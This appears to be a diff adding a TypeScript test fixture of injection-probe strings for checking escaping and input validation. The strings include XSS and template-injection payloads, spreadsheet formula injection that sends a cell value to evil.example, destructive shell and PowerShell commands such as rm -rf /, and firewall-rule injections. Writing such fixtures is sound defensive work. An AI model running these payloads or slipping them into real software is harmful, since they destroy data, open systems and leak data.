@@ -1,0 +1,51 @@
+/** Texts that mean something to a program which is not asked: each tries to be more than text somewhere. */
+
+/** @param mark a word of its own, by which the text is found again */
+export const HOSTILE: readonly ((mark: string) => string)[] = [
+  (mark) => `<script>alert(1)</script> ${mark}`,
+  (mark) => `"><img src=x onerror=alert(1)> ${mark}`,
+  (mark) => `' onmouseover='alert(1)' autofocus onfocus='alert(1) ${mark}`,
+  (mark) => `</title></textarea></style></script><svg onload=alert(1)> ${mark}`,
+  (mark) => `]]> --> <!-- <![CDATA[ ${mark} --!>`,
+  (mark) => `javascript:alert(1)//${mark}`,
+  (mark) => `&lt;b&gt; &amp;amp; &#60;b&#62; &nbsp ${mark}`,
+  (mark) => `\`code\` \`\`\` \${alert(1)} {{7*7}} <%= 7 %> {alert(1)} ${mark}`,
+  (mark) => `# a | b | **bold** [x](javascript:alert(1)) ![y](//evil.example/z) ${mark}`,
+  (mark) => `end ${mark} end`,
+  (mark) => `A --> X; click A call f() ${mark}`,
+  (mark) => `%%{init: {"securityLevel": "loose"}}%% #quot; #35; ${mark}`,
+  (mark) => `=HYPERLINK("https://evil.example/?"&A1,"${mark}")`,
+  (mark) => `+cmd|' /C calc'!A0 ${mark}`,
+  (mark) => `-2+3+cmd|' /C calc'!A0 ${mark}`,
+  (mark) => `@SUM(1+1) ${mark}`,
+  (mark) => `"=1+1";=2+2 ${mark}`,
+  (mark) => `＝1＋1 ${mark}`,
+  (mark) => `$(rm -rf /) \`n %SystemRoot% $env:x ${mark}`,
+  (mark) => `'; Remove-Item C:\\ -Recurse # ${mark}`,
+  (mark) => `"}; flush ruleset; # ${mark}`,
+  (mark) => `what? permit ip any any ! ${mark}`,
+  (mark) => `-A INPUT -j ACCEPT" -j DROP ${mark}`,
+  (mark) => `${mark} ends with \\`,
+  (mark) => `\\" \\n \\u0041 _x0041_ %00 %3Cb%3E ${mark}`,
+  (mark) => `__proto__ constructor.prototype ${mark}`,
+  (mark) => `\u202eright to left ${mark}\u202c`,
+  (mark) => `zero\u200bwidth soft\u00adhyphen no\u00a0break b\ufeffom ${mark}`,
+  (mark) => `${'W'.repeat(300)}${mark}`,
+  (mark) => `⚓️ 👩‍👩‍👧 e\u0301 ${mark}`,
+  (mark) => `منفذ الخدمة ${mark}`,
+  (mark) => `--- {a: [b, &c *d]} !!x ${mark}: #z`,
+];
+
+/** What no field of one line takes, and why it need not be followed any further. */
+export const REFUSED: readonly string[] = [
+  '',
+  ' ',
+  'two\nlines',
+  'a\rreturn',
+  'a\ttab',
+  '\u0000',
+  '\u001b[2J',
+  '\u0085',
+  'a\u2028b',
+  'a\u2029b',
+];
